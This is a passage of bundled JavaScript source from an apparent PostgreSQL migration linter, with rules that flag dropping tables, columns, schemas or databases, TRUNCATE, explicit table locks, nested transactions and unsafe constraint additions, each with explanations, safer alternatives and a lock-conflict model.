            "CREATE DOMAIN score AS int;\nALTER DOMAIN score ADD CONSTRAINT score_range CHECK (VALUE BETWEEN 0 AND 100);"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-alterdomain.html",
          "https://postgrespro.com/list/id/E1upLlc-00162U-1r@gemulon.postgresql.org"
        ]
      },
      create(context) {
        const created = /* @__PURE__ */ new Set();
        return {
          CreateDomainStmt(node) {
            const key = domainKey(node.domainname);
            if (key) created.add(key);
          },
          AlterDomainStmt(node, statement) {
            const constraint = node.def?.Constraint;
            if (node.subtype !== "C" || constraint?.contype !== "CONSTR_CHECK" || constraint.skip_validation) return;
            const key = domainKey(node.typeName);
            if (!key || created.has(key)) return;
            const domain = (node.typeName ?? []).map(constantText).join(".");
            const columns = columnsOfType(key.split(".").at(-1));
            const where = columns.length > 0 ? ` (${columns.join(", ")})` : "";
            const name = constraint.conname ?? "the constraint";
            context.report(statement, {
              range: rangeFrom(statement, constraint.location),
              message: `Adding a CHECK constraint to domain ${domain} without NOT VALID scans every column of that type${where} and blocks writes to those tables until the scan finishes.`,
              help: `Add it with NOT VALID, commit, then run ALTER DOMAIN ${domain} VALIDATE CONSTRAINT ${name} in a later transaction` + (context.postgresVersion >= LIGHT_VALIDATE_SINCE ? ": from PostgreSQL 19 the validation lets writes continue." : ": new and updated values are checked at once, and the validation, which still blocks writes before PostgreSQL 19, can wait for a quiet moment.")
            });
          }
        };
        function columnsOfType(typeName) {
          const found = [];
          for (const table of context.catalog.tables.values()) {
            if (context.isNewTable(table.key)) continue;
            for (const column of table.columns.values()) {
              if (column.type.name === typeName) found.push(`${table.schema ? `${table.schema}.` : ""}${table.name}.${column.name}`);
            }
          }
          return found;
        }
      }
    });
  }
});

// src/rules/ban-drop-column.ts
var TABLES2, ban_drop_column_default;
var init_ban_drop_column = __esm({
  "src/rules/ban-drop-column.ts"() {
    "use strict";
    init_ast();
    init_rule();
    TABLES2 = /* @__PURE__ */ new Set(["OBJECT_TABLE", "OBJECT_FOREIGN_TABLE"]);
    ban_drop_column_default = defineRule({
      meta: {
        id: "ban-drop-column",
        category: "breaking",
        severity: "warning",
        summary: "Do not drop a column that the running application may still use.",
        why: 'A deploy runs the migration while the previous application version is still serving requests, and its queries name the column: from the moment the drop commits, every SELECT, INSERT or UPDATE that mentions it fails with "column does not exist" until the new version has replaced the old one everywhere. The values are lost as well: Postgres only marks the column as dropped, but no command brings it back, only a backup does. Indexes and constraints on the column go with it, and with CASCADE so do the views and foreign keys that depend on it.',
        safeAlternative: "Drop a column in two deploys: first ship an application version that neither reads nor writes it (with an ORM, also remove or ignore it in the model so generated queries stop naming it), then drop it in a later migration, once no running version uses it.",
        examples: {
          bad: ["ALTER TABLE users DROP COLUMN legacy_flag;"],
          good: [
            "CREATE TABLE drafts (id bigint PRIMARY KEY, body text, notes text);\nALTER TABLE drafts DROP COLUMN notes;",
            "ALTER TABLE users ALTER COLUMN legacy_flag DROP NOT NULL;"
          ]
        },
        references: ["https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-DROP-COLUMN"]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (!TABLES2.has(node.objtype ?? "") || context.isNewTable(node.relation)) return;
            for (const { cmd, range: range2 } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_DropColumn" || !cmd.name) continue;
              const cascade = cmd.behavior === "DROP_CASCADE" ? " CASCADE also drops the views and foreign keys that depend on it." : "";
              context.report(statement, {
                range: range2,
                message: `Dropping column ${cmd.name} of ${relationName2(node.relation)} breaks the application version still running, whose queries name it, and deletes its values for good.${cascade}`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/ban-drop-database.ts
var ban_drop_database_default;
var init_ban_drop_database = __esm({
  "src/rules/ban-drop-database.ts"() {
    "use strict";
    init_rule();
    ban_drop_database_default = defineRule({
      meta: {
        id: "ban-drop-database",
        category: "breaking",
        severity: "error",
        summary: "Never drop a database from a migration.",
        why: "DROP DATABASE removes the database with every object and row in it, deletes its data directory, and cannot be undone. It fails while anyone else is connected to that database, unless WITH (FORCE) is given, which first terminates their sessions. It also cannot run inside a transaction block.",
        safeAlternative: "Do not drop databases from migrations. If a database really has to go, drop it by hand (or with dropdb) after taking a backup and after every application has stopped connecting to it.",
        examples: {
          bad: ["DROP DATABASE analytics;"],
          good: ["-- analytics is dropped by hand with dropdb, after a backup, not by a migration."]
        },
        references: ["https://www.postgresql.org/docs/current/sql-dropdatabase.html"]
      },
      create(context) {
        return {
          DropdbStmt(node, statement) {
            const force = node.options?.some((o) => o.DefElem?.defname === "force");
            const details = [
              force ? "WITH (FORCE) first terminates every session connected to it." : "",
              statement.inTransaction ? "It cannot run inside a transaction block, so here it fails anyway." : ""
            ];
            context.report(statement, {
              message: [`Dropping database ${node.dbname ?? "?"} deletes it with all its data, and cannot be undone.`, ...details].filter(Boolean).join(" ")
            });
          }
        };
      }
    });
  }
});

// src/rules/ban-drop-schema.ts
var ban_drop_schema_default;
var init_ban_drop_schema = __esm({
  "src/rules/ban-drop-schema.ts"() {
    "use strict";
    init_rule();
    init_statements();
    ban_drop_schema_default = defineRule({
      meta: {
        id: "ban-drop-schema",
        category: "breaking",
        severity: "warning",
        summary: "Do not drop a schema from a migration.",
        why: "Without CASCADE, DROP SCHEMA fails while the schema still contains any object, and once it succeeds the application version still running fails on every query that names the schema. With CASCADE it deletes everything the schema contains (tables with all their rows, views, functions, sequences, types) and, in turn, every object that depends on those, which can be in other schemas; none of it can be undone without a backup.",
        safeAlternative: "Empty the schema object by object in earlier migrations, each after the application has stopped using that object, then drop the schema without CASCADE, so Postgres refuses if something was overlooked.",
        examples: {
          bad: ["DROP SCHEMA reporting CASCADE;"],
          good: ["CREATE SCHEMA scratch;\nDROP SCHEMA scratch;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-dropschema.html",
          "https://www.postgresql.org/docs/current/ddl-depend.html"
        ]
      },
      create(context) {
        const created = /* @__PURE__ */ new Set();
        return {
          CreateSchemaStmt(node) {
            if (node.schemaname) created.add(node.schemaname);
          },
          DropStmt(node, statement) {
            if (node.removeType !== "OBJECT_SCHEMA") return;
            for (const schema of (node.objects ?? []).map(constantText)) {
              if (!schema || created.has(schema)) continue;
              const tables = [...context.catalog.tables.values()].filter((t) => (t.schema ?? "public") === schema).map((t) => t.key);
              const known = tables.length > 0 ? ` (${tables.join(", ")})` : "";
              context.report(statement, {
                message: node.behavior === "DROP_CASCADE" ? `Dropping schema ${schema} with CASCADE deletes every table in it with all their rows${known}, every other object in it, and the objects elsewhere that depend on them; none of it can be undone.` : tables.length > 0 ? `Dropping schema ${schema} fails: it still contains tables${known}, and without CASCADE Postgres refuses to drop a schema that is not empty.` : `Dropping schema ${schema} breaks the application version still running if it still uses objects in that schema.`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/ban-drop-table.ts
function tableName(object) {
  const parts = (object.List?.items ?? []).map(constantText);
  const relname = parts.at(-1);
  if (!relname) return void 0;
  return { relname, schemaname: parts.length > 1 ? parts.at(-2) : void 0 };
}
var ban_drop_table_default;
var init_ban_drop_table = __esm({
  "src/rules/ban-drop-table.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    ban_drop_table_default = defineRule({
      meta: {
        id: "ban-drop-table",
        category: "breaking",
        severity: "warning",
        summary: "Do not drop a table that holds data or that the running application may still use.",
        why: 'DROP TABLE deletes the table with all its rows, indexes, triggers and constraints, and nothing but a backup brings them back. The application version still running during the deploy fails on every query that uses the table ("relation does not exist"). With CASCADE it also drops the views built on the table and the foreign keys in other tables that point to it.',
        safeAlternative: "Stop using the table in the application first and deploy that; drop the table in a later migration, after taking a backup of it (e.g. pg_dump --table) if its data might be needed again. Avoid CASCADE: drop the dependent views and foreign keys explicitly, so the migration says what it removes.",
        examples: {
          bad: ["DROP TABLE legacy_orders;"],
          good: ["CREATE TABLE import_staging (id bigint, payload jsonb);\nDROP TABLE import_staging;"]
        },
        references: ["https://www.postgresql.org/docs/current/sql-droptable.html"]
      },
      create(context) {
        return {
          DropStmt(node, statement) {
            if (node.removeType !== "OBJECT_TABLE") return;
            const existing = (node.objects ?? []).map(tableName).filter((table) => table !== void 0 && !context.isNewTable(table));
            if (existing.length === 0) return;
            const plural3 = existing.length > 1;
            const it = plural3 ? "them" : "it";
            const cascade = node.behavior === "DROP_CASCADE" ? ` CASCADE also drops the views that use ${it} and the foreign keys in other tables that reference ${it}.` : "";
            context.report(statement, {
              message: `Dropping ${plural3 ? "tables" : "table"} ${existing.map(relationName2).join(", ")} deletes all ${plural3 ? "their" : "its"} rows for good, and the application version still running fails on every query that uses ${it}.${cascade}`
            });
          }
        };
      }
    });
  }
});

// src/rules/ban-exclusion-constraint.ts
var ban_exclusion_constraint_default;
var init_ban_exclusion_constraint = __esm({
  "src/rules/ban-exclusion-constraint.ts"() {
    "use strict";
    init_ast();
    init_rule();
    ban_exclusion_constraint_default = defineRule({
      meta: {
        id: "ban-exclusion-constraint",
        category: "locking",
        severity: "error",
        summary: "Do not add an exclusion constraint to an existing table.",
        why: "ALTER TABLE ... ADD CONSTRAINT ... EXCLUDE takes an ACCESS EXCLUSIVE lock on the table and builds the constraint's index while holding it, so every read and write of the table waits for the whole index build. Unlike other constraints there is no online path: NOT VALID is only accepted for foreign key and CHECK constraints, and ADD CONSTRAINT ... USING INDEX only for PRIMARY KEY and UNIQUE.",
        safeAlternative: "Declare exclusion constraints when the table is created. For an existing table, plan a maintenance window (with lock_timeout set, so the statement gives up instead of queueing traffic behind it), or build a new table with the constraint, copy the rows across and swap the tables.",
        examples: {
          bad: ["ALTER TABLE bookings ADD CONSTRAINT bookings_no_overlap EXCLUDE USING gist (room_id WITH =, during WITH &&);"],
          good: [
            "CREATE TABLE bookings (\n  room_id int,\n  during tstzrange,\n  EXCLUDE USING gist (room_id WITH =, during WITH &&)\n);",
            "CREATE TABLE rooms (id int, during tstzrange);\nALTER TABLE rooms ADD CONSTRAINT rooms_no_overlap EXCLUDE USING gist (during WITH &&);"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html",
          "https://www.postgresql.org/docs/current/sql-createtable.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            for (const { cmd, range: range2, constraint } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_AddConstraint" || constraint?.contype !== "CONSTR_EXCLUSION") continue;
              context.report(statement, {
                range: range2,
                message: `Adding an exclusion constraint to ${relationName2(node.relation)} builds its index under an ACCESS EXCLUSIVE lock: all reads and writes of the table wait until the build finishes.`
              });
            }
          }
        };
      }
    });
  }
});

// src/core/locks.ts
function conflicts(a, b) {
  return CONFLICTS[a].includes(b);
}
function covers(held, requested) {
  return CONFLICTS[requested].every((mode) => CONFLICTS[held].includes(mode));
}
function lockName(mode) {
  return mode.replace(/Lock$/, "").replace(/([a-z])([A-Z])/g, "$1 $2").toUpperCase();
}
function blockedOperations(mode) {
  return {
    reads: conflicts(mode, "AccessShareLock"),
    writes: conflicts(mode, "RowExclusiveLock"),
    lockingReads: conflicts(mode, "RowShareLock"),
    ddl: conflicts(mode, "ShareUpdateExclusiveLock")
  };
}
function describeBlocking(mode) {
  const blocked = blockedOperations(mode);
  if (blocked.reads) return "blocks all reads and writes";
  if (blocked.writes) return "blocks writes (INSERT, UPDATE, DELETE) but not reads";
  if (blocked.ddl) return "blocks other schema changes, VACUUM and ANALYZE, but not reads or writes";
  return "blocks only ACCESS EXCLUSIVE locks (schema changes that rewrite or drop the table)";
}
function isDisruptive(mode) {
  const blocked = blockedOperations(mode);
  return blocked.reads || blocked.writes;
}
var LOCK_MODES, CONFLICTS;
var init_locks = __esm({
  "src/core/locks.ts"() {
    "use strict";
    LOCK_MODES = [
      "AccessShareLock",
      "RowShareLock",
      "RowExclusiveLock",
      "ShareUpdateExclusiveLock",
      "ShareLock",
      "ShareRowExclusiveLock",
      "ExclusiveLock",
      "AccessExclusiveLock"
    ];
    CONFLICTS = {
      AccessShareLock: ["AccessExclusiveLock"],
      RowShareLock: ["ExclusiveLock", "AccessExclusiveLock"],
      RowExclusiveLock: ["ShareLock", "ShareRowExclusiveLock", "ExclusiveLock", "AccessExclusiveLock"],
      ShareUpdateExclusiveLock: ["ShareUpdateExclusiveLock", "ShareLock", "ShareRowExclusiveLock", "ExclusiveLock", "AccessExclusiveLock"],
      ShareLock: ["RowExclusiveLock", "ShareUpdateExclusiveLock", "ShareRowExclusiveLock", "ExclusiveLock", "AccessExclusiveLock"],
      ShareRowExclusiveLock: ["RowExclusiveLock", "ShareUpdateExclusiveLock", "ShareLock", "ShareRowExclusiveLock", "ExclusiveLock", "AccessExclusiveLock"],
      ExclusiveLock: ["RowShareLock", "RowExclusiveLock", "ShareUpdateExclusiveLock", "ShareLock", "ShareRowExclusiveLock", "ExclusiveLock", "AccessExclusiveLock"],
      AccessExclusiveLock: LOCK_MODES
    };
  }
});

// src/core/statement-locks.ts
function strongerLock(a, b) {
  return LOCK_MODES.indexOf(a) >= LOCK_MODES.indexOf(b) ? a : b;
}
function locksTakenBy(statement, postgresVersion = Infinity) {
  const locks = new LockList();
  const node = statement.node;
  switch (statement.type) {
    case "AlterTableStmt":
      alterTable(node, locks, postgresVersion);
      break;
    case "AlterObjectSchemaStmt":
      if (node.objectType === "OBJECT_TABLE") locks.add(node.relation, ACCESS_EXCLUSIVE);
      break;
    case "RenameStmt":
      if (isTableRename(node)) locks.add(node.relation, ACCESS_EXCLUSIVE);
      break;
    case "IndexStmt":
      locks.add(node.relation, node.concurrent ? SHARE_UPDATE_EXCLUSIVE : SHARE);
      break;
    case "DropStmt":
      drop(node, locks);
      break;
    case "TruncateStmt":
      for (const relation of rangeVars(node.relations)) locks.add(relation, ACCESS_EXCLUSIVE);
      break;
    case "LockStmt": {
      const mode = LOCK_MODES[(node.mode ?? LOCK_MODES.length) - 1] ?? ACCESS_EXCLUSIVE;
      for (const relation of rangeVars(node.relations)) locks.add(relation, mode);
      break;
    }
    case "ReindexStmt":
      reindex(node, locks);
      break;
    case "VacuumStmt": {
      const full = node.is_vacuumcmd === true && booleanOption(node.options, "full");
      for (const item of node.rels ?? []) locks.add(item.VacuumRelation?.relation, full ? ACCESS_EXCLUSIVE : SHARE_UPDATE_EXCLUSIVE);
      break;
    }
    case "ClusterStmt":
      locks.add(node.relation, ACCESS_EXCLUSIVE);
      break;
    case "RefreshMatViewStmt":
      locks.add(node.relation, node.concurrent ? EXCLUSIVE : ACCESS_EXCLUSIVE);
      break;
    case "CreateTrigStmt":
      locks.add(node.relation, SHARE_ROW_EXCLUSIVE);
      break;
    case "CommentStmt":
      comment(node, locks);
      break;
    case "CreateStmt":
      if (node.partbound) for (const parent of rangeVars(node.inhRelations)) locks.add(parent, ACCESS_EXCLUSIVE);
      break;
    case "CreateTableAsStmt":
      dataAccess(node.query, locks);
      break;
    case "CopyStmt":
      if (node.relation) locks.add(node.relation, node.is_from ? ROW_EXCLUSIVE : ACCESS_SHARE);
      else dataAccess(node.query, locks);
      break;
    case "SelectStmt":
    case "InsertStmt":
    case "UpdateStmt":
    case "DeleteStmt":
    case "MergeStmt":
      dataAccess({ [statement.type]: node }, locks);
      break;
  }
  return locks.list();
}
function lockedTable(lock, catalog) {
  if (!lock.index) return lock.rangeVar ?? lock.relation;
  const schema = lock.rangeVar?.schemaname ?? "public";
  const name = lock.rangeVar?.relname;
  for (const table of catalog.tables.values()) {
    if ((table.schema ?? "public") === schema && table.indexes.some((i) => i.name === name)) return table.key;
  }
  return void 0;
}
function alterTable(node, locks, postgresVersion) {
  if (node.objtype !== "OBJECT_TABLE") return;
  let tableMode;
  const raise = (mode) => {
    tableMode = tableMode ? strongerLock(tableMode, mode) : mode;
  };
  for (const item of node.cmds ?? []) {
    const cmd = item.AlterTableCmd;
    if (!cmd) continue;
    switch (cmd.subtype) {
      case "AT_SetStatistics":
      case "AT_SetOptions":
      case "AT_ResetOptions":
      case "AT_ClusterOn":
      case "AT_DropCluster":
        raise(SHARE_UPDATE_EXCLUSIVE);
        break;
      case "AT_ValidateConstraint":
        raise(SHARE_UPDATE_EXCLUSIVE);
        break;
      case "AT_SetRelOptions":
      case "AT_ResetRelOptions":
        raise(relOptionsLock(cmd.def?.List?.items ?? []));
        break;
      case "AT_EnableTrig":
      case "AT_EnableAlwaysTrig":
      case "AT_EnableReplicaTrig":
      case "AT_EnableTrigAll":
      case "AT_EnableTrigUser":
      case "AT_DisableTrig":
      case "AT_DisableTrigAll":
      case "AT_DisableTrigUser":
        raise(SHARE_ROW_EXCLUSIVE);
        break;
      case "AT_AddConstraint": {
        const constraint = cmd.def?.Constraint;
        if (constraint?.contype === "CONSTR_FOREIGN") {
          raise(SHARE_ROW_EXCLUSIVE);
          locks.add(constraint.pktable, SHARE_ROW_EXCLUSIVE);
        } else {
          raise(ACCESS_EXCLUSIVE);
        }
        break;
      }
      case "AT_AddColumn":
        raise(ACCESS_EXCLUSIVE);
        for (const c of cmd.def?.ColumnDef?.constraints ?? []) {
          const constraint = c.Constraint;
          if (constraint?.contype === "CONSTR_FOREIGN") locks.add(constraint.pktable, SHARE_ROW_EXCLUSIVE);
        }
        break;
      case "AT_AttachPartition":
        raise(postgresVersion >= 12 ? SHARE_UPDATE_EXCLUSIVE : ACCESS_EXCLUSIVE);
        locks.add(cmd.def?.PartitionCmd?.name, ACCESS_EXCLUSIVE);
        break;
      case "AT_DetachPartition":
        raise(cmd.def?.PartitionCmd?.concurrent ? SHARE_UPDATE_EXCLUSIVE : ACCESS_EXCLUSIVE);
        locks.add(cmd.def?.PartitionCmd?.name, ACCESS_EXCLUSIVE);
        break;
      case "AT_DetachPartitionFinalize":
        raise(SHARE_UPDATE_EXCLUSIVE);
        locks.add(cmd.def?.PartitionCmd?.name, ACCESS_EXCLUSIVE);
        break;
      default:
        raise(ACCESS_EXCLUSIVE);
    }
  }
  if (tableMode) locks.add(node.relation, tableMode);
}
function relOptionsLock(options) {
  const light = options.every((option) => {
    const def = option.DefElem;
    const name = def?.defname ?? "";
    return def?.defnamespace === "toast" || name === "fillfactor" || name === "parallel_workers" || name === "toast_tuple_target" || name.includes("autovacuum");
  });
  return light ? SHARE_UPDATE_EXCLUSIVE : ACCESS_EXCLUSIVE;
}
function isTableRename(node) {
  switch (node.renameType) {
    case "OBJECT_TABLE":
    case "OBJECT_TABCONSTRAINT":
      return true;
    case "OBJECT_COLUMN":
      return node.relationType === "OBJECT_TABLE";
    default:
      return false;
  }
}
function drop(node, locks) {
  if (node.removeType === "OBJECT_TABLE") {
    for (const relation of namedRelations(node.objects)) locks.add(relation, ACCESS_EXCLUSIVE);
  } else if (node.removeType === "OBJECT_INDEX") {
    const mode = node.concurrent ? SHARE_UPDATE_EXCLUSIVE : ACCESS_EXCLUSIVE;
    for (const index of namedRelations(node.objects)) locks.add(index, mode, { tableMode: mode });
  }
}
function reindex(node, locks) {
  const concurrent = booleanOption(node.params, "concurrently");
  if (node.kind === "REINDEX_OBJECT_TABLE") {
    locks.add(node.relation, concurrent ? SHARE_UPDATE_EXCLUSIVE : SHARE);
  } else if (node.kind === "REINDEX_OBJECT_INDEX") {
    if (concurrent) locks.add(node.relation, SHARE_UPDATE_EXCLUSIVE, { tableMode: SHARE_UPDATE_EXCLUSIVE });
    else locks.add(node.relation, ACCESS_EXCLUSIVE, { tableMode: SHARE });
  }
}
function comment(node, locks) {
  const parts = nameParts(node.object);
  switch (node.objtype) {
    case "OBJECT_TABLE":
    case "OBJECT_VIEW":
    case "OBJECT_MATVIEW":
    case "OBJECT_FOREIGN_TABLE":
      locks.add(rangeVarOf(parts), SHARE_UPDATE_EXCLUSIVE);
      break;
    case "OBJECT_COLUMN":
      locks.add(rangeVarOf(parts.slice(0, -1)), SHARE_UPDATE_EXCLUSIVE);
      break;
  }
}
function dataAccess(root, locks) {
  const cteNames = /* @__PURE__ */ new Set();
  collectCteNames(root, cteNames);
  const add = (relation, mode) => {
    if (relation?.relname && !relation.schemaname && cteNames.has(relation.relname)) return;
    locks.add(relation, mode);
  };
  const visit = (value) => {
    if (Array.isArray(value)) {
      for (const item of value) visit(item);
      return;
    }
    if (!value || typeof value !== "object") return;
    for (const [key, child] of Object.entries(value)) {
      if (key === "RangeVar") add(child, ACCESS_SHARE);
      else if (key === "InsertStmt" || key === "UpdateStmt" || key === "DeleteStmt" || key === "MergeStmt") add(child.relation, ROW_EXCLUSIVE);
      else if (key === "SelectStmt") for (const relation of rowLockedRelations(child)) add(relation, ROW_SHARE);
      if (key === "lockingClause" || key === "intoClause") continue;
      visit(child);
    }
  };
  visit(root);
}
function collectCteNames(value, names3) {
  if (Array.isArray(value)) {
    for (const item of value) collectCteNames(item, names3);
    return;
  }
  if (!value || typeof value !== "object") return;
  for (const [key, child] of Object.entries(value)) {
    if (key === "CommonTableExpr" && child.ctename) names3.add(child.ctename);
    collectCteNames(child, names3);
  }
}
function rowLockedRelations(select) {
  const clauses = (select.lockingClause ?? []).map((c) => c.LockingClause).filter(Boolean);
  if (clauses.length === 0) return [];
  const from = [];
  const collect = (item) => {
    if (!item) return;
    if (item.RangeVar) from.push(item.RangeVar);
    if (item.JoinExpr) {
      collect(item.JoinExpr.larg);
      collect(item.JoinExpr.rarg);
    }
  };
  for (const item of select.fromClause ?? []) collect(item);
  if (clauses.some((c) => !c.lockedRels?.length)) return from;
  const named = new Set(clauses.flatMap((c) => rangeVars(c.lockedRels).map((r) => r.relname)));
  return from.filter((r) => named.has(r.alias?.aliasname ?? r.relname));
}
function rangeVars(items) {
  return (items ?? []).map((item) => item.RangeVar).filter((r) => !!r);
}
function nameParts(node) {
  const items = node?.List?.items ?? [];
  return items.map(constantText).filter((p) => p !== void 0);
}
function rangeVarOf(parts) {
  if (parts.length === 0) return void 0;
  const relname = parts.at(-1);
  return parts.length > 1 ? { schemaname: parts.at(-2), relname } : { relname };
}
function namedRelations(objects) {
  return (objects ?? []).map((o) => rangeVarOf(nameParts(o))).filter((r) => !!r);
}
function booleanOption(options, name) {
  const option = (options ?? []).map((o) => o.DefElem).find((d) => d?.defname === name);
  if (!option) return false;
  if (!option.arg) return true;
  const value = constantText(option.arg) ?? (option.arg.Integer ? String(option.arg.Integer.ival ?? 0) : void 0);
  return !["false", "off", "0", "no"].includes((value ?? "").toLowerCase());
}
var ACCESS_SHARE, ROW_SHARE, ROW_EXCLUSIVE, SHARE_UPDATE_EXCLUSIVE, SHARE, SHARE_ROW_EXCLUSIVE, EXCLUSIVE, ACCESS_EXCLUSIVE, LockList;
var init_statement_locks = __esm({
  "src/core/statement-locks.ts"() {
    "use strict";
    init_ast();
    init_locks();
    init_statements();
    ACCESS_SHARE = "AccessShareLock";
    ROW_SHARE = "RowShareLock";
    ROW_EXCLUSIVE = "RowExclusiveLock";
    SHARE_UPDATE_EXCLUSIVE = "ShareUpdateExclusiveLock";
    SHARE = "ShareLock";
    SHARE_ROW_EXCLUSIVE = "ShareRowExclusiveLock";
    EXCLUSIVE = "ExclusiveLock";
    ACCESS_EXCLUSIVE = "AccessExclusiveLock";
    LockList = class {
      byKey = /* @__PURE__ */ new Map();
      add(relation, mode, index) {
        if (!relation?.relname) return;
        const key = `${relation.schemaname ?? ""}.${relation.relname}`;
        const existing = this.byKey.get(key);
        if (!existing) {
          this.byKey.set(key, { relation: relationName2(relation), mode, rangeVar: relation, ...index && { index } });
          return;
        }
        existing.mode = strongerLock(existing.mode, mode);
        if (index && existing.index) existing.index.tableMode = strongerLock(existing.index.tableMode, index.tableMode);
      }
      list() {
        return [...this.byKey.values()];
      }
    };
  }
});

// src/rules/ban-lock-table.ts
var ban_lock_table_default;
var init_ban_lock_table = __esm({
  "src/rules/ban-lock-table.ts"() {
    "use strict";
    init_rule();
    init_locks();
    init_statement_locks();
    ban_lock_table_default = defineRule({
      meta: {
        id: "ban-lock-table",
        category: "locking",
        severity: "warning",
        summary: "Do not lock existing tables explicitly in a mode that blocks reads or writes.",
        why: "LOCK TABLE holds the lock until the transaction ends. Without IN ... MODE it takes ACCESS EXCLUSIVE, which blocks every read and write of the table; SHARE and stronger modes block writes. While the lock waits for running queries to finish, every later query on the table queues behind it as well.",
        safeAlternative: "Let each statement take the lock it needs. If an explicit lock is really required (for example to take the strongest lock first and avoid a deadlock), choose the weakest mode that protects the work, set lock_timeout before it, and keep the rest of the transaction short.",
        examples: {
          bad: ["BEGIN;\nLOCK TABLE orders;\nCOMMIT;", "BEGIN;\nLOCK TABLE orders IN SHARE MODE;\nCOMMIT;"],
          good: [
            "BEGIN;\nLOCK TABLE orders IN ROW EXCLUSIVE MODE;\nCOMMIT;",
            "BEGIN;\nCREATE TABLE invoices (id bigint);\nLOCK TABLE invoices;\nCOMMIT;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-lock.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          LockStmt(_node, statement) {
            const locks = locksTakenBy(statement).filter((l) => isDisruptive(l.mode) && !context.isNewTable(l.rangeVar));
            const mode = locks[0]?.mode;
            if (!mode) return;
            const tables = locks.map((l) => l.relation).join(", ");
            context.report(statement, {
              message: `LOCK TABLE takes ${lockName(mode)} on ${tables}, which ${describeBlocking(mode)} until the transaction ends.`,
              help: statement.inTransaction ? void 0 : "LOCK TABLE only works inside a transaction block (Postgres rejects it outside one); avoid the explicit lock, or take the weakest mode that protects the work, with lock_timeout set and a short transaction."
            });
          }
        };
      }
    });
  }
});

// src/rules/ban-nested-transaction.ts
var ban_nested_transaction_default;
var init_ban_nested_transaction = __esm({
  "src/rules/ban-nested-transaction.ts"() {
    "use strict";
    init_rule();
    init_statements();
    ban_nested_transaction_default = defineRule({
      meta: {
        id: "ban-nested-transaction",
        category: "transactions",
        severity: "warning",
        summary: "Do not open a transaction while one is already open.",
        why: "Postgres has no nested transactions: a BEGIN inside an open transaction block only raises a warning and changes nothing, so the next COMMIT or ROLLBACK ends the outer transaction. When the migration runner already wraps the file in a transaction, the COMMIT the file adds for its own BEGIN commits the runner's transaction early: the statements after it no longer run in that transaction, so a later failure leaves the migration half applied. (A BEGIN in a file sent as one multi-statement query is different: it turns the implicit transaction into a regular one and is not flagged.)",
        safeAlternative: "Let one party own the transaction: either remove BEGIN and COMMIT from the file and rely on the runner's transaction, or turn the runner's transaction off for this file. To undo part of the work on its own inside a transaction, use SAVEPOINT and ROLLBACK TO SAVEPOINT.",
        examples: {
          bad: ["BEGIN;\nCREATE TABLE invoices (id bigint PRIMARY KEY);\nBEGIN;\nCREATE TABLE payments (id bigint PRIMARY KEY);\nCOMMIT;"],
          good: ["BEGIN;\nCREATE TABLE invoices (id bigint PRIMARY KEY);\nSAVEPOINT payments;\nCREATE TABLE payments (id bigint PRIMARY KEY);\nCOMMIT;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-begin.html",
          "https://www.postgresql.org/docs/current/sql-commit.html",
          "https://www.postgresql.org/docs/current/sql-savepoint.html",
          "https://www.postgresql.org/docs/current/protocol-flow.html#PROTOCOL-FLOW-MULTI-STATEMENT"
        ]
      },
      create(context) {
        const { file } = context;
        const lineOf = (statement) => file.lines.position(statement.range.start).line;
        let open = file.transaction === "transaction" ? "runner" : void 0;
        return {
          TransactionStmt(node, statement) {
            const kind = node.kind ?? "";
            if (TRANSACTION_END.has(kind)) {
              if (open) open = node.chain ? statement : void 0;
              return;
            }
            if (!TRANSACTION_BEGIN.has(kind)) return;
            if (!open) {
              open = statement;
              return;
            }
            const command = kind === "TRANS_STMT_START" ? "START TRANSACTION" : "BEGIN";
            if (open === "runner") {
              const end2 = file.statements.find(
                (s) => s.index > statement.index && s.type === "TransactionStmt" && TRANSACTION_END.has(s.node.kind)
              );
              const early = end2 ? `, so the ${end2.tokens[0]?.text.toUpperCase()} on line ${lineOf(end2)} ends the runner's transaction early and the statements after it run outside it` : "";
              context.report(statement, {
                message: `${command} inside the transaction the runner already opened for this file is ignored (Postgres only warns)${early}.`,
                help: "Remove the file's own BEGIN and COMMIT and let the runner's transaction cover the file, or turn the runner's transaction off for this file."
              });
              return;
            }
            context.report(statement, {
              message: `${command} while the transaction opened on line ${lineOf(open)} is still open is ignored (Postgres only warns): there are no nested transactions, so the next COMMIT or ROLLBACK ends the outer one.`,
              help: "Remove the inner BEGIN and its COMMIT; to undo part of the work on its own, use SAVEPOINT and ROLLBACK TO SAVEPOINT."
            });
          }
        };
      }
    });
  }
});

// src/rules/ban-truncate.ts
var ban_truncate_default;
var init_ban_truncate = __esm({
  "src/rules/ban-truncate.ts"() {
    "use strict";
    init_ast();
    init_locks();
    init_rule();
    ban_truncate_default = defineRule({
      meta: {
        id: "ban-truncate",
        category: "breaking",
        severity: "warning",
        summary: "Do not empty existing tables with TRUNCATE in a migration.",
        why: "TRUNCATE deletes every row of the tables at once and the rows cannot be recovered once the transaction commits. It takes an ACCESS EXCLUSIVE lock on each table, which blocks all reads and writes until the transaction ends. Without ONLY it also empties inheritance children and partitions, and with CASCADE it also empties every table that has a foreign key to one of them, and the tables referencing those in turn, none of which the statement names.",
        safeAlternative: "Keep deleting data out of schema migrations: if rows really have to go, delete them from a separate script, in batches by key range. If a table must be emptied, name every table to empty in the statement instead of relying on CASCADE, so the migration shows what it deletes.",
        examples: {
          bad: ["TRUNCATE orders;"],
          good: ["CREATE TABLE import_batch (id bigint, payload jsonb);\nTRUNCATE import_batch;"]
        },
        references: ["https://www.postgresql.org/docs/current/sql-truncate.html"]
      },
      create(context) {
        return {
          TruncateStmt(node, statement) {
